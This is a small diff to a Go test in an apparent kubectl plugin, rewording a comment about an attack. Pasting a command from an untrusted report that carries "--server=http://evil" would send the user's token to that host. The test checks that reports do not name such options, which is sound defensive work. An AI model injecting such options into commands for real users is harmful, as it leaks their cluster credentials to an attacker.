@@ -9,7 +9,7 @@ import (
 	"github.com/kubectl-scylla/kubectl-scylla/internal/matrix"
 )
 
-// A report may be another cluster's, or saved by somebody: "kubectl logs --server=http://evil" would send the token of who pastes it there. Its row stands, without a name.
+// A report may be another cluster's, or a saved file: a pasted "kubectl logs --server=http://evil" would send the user's token there. Its row counts, without a name.
 func TestAttack5AReportNamesNoOption(t *testing.T) {
 	const option, id = "--server=http://evil", "8ebd0fc0-1111-4111-8111-11111111111a"
 	cells := []api.ObservedNodeStatusReport{{HostID: id, Status: api.NodeStatusUp}}
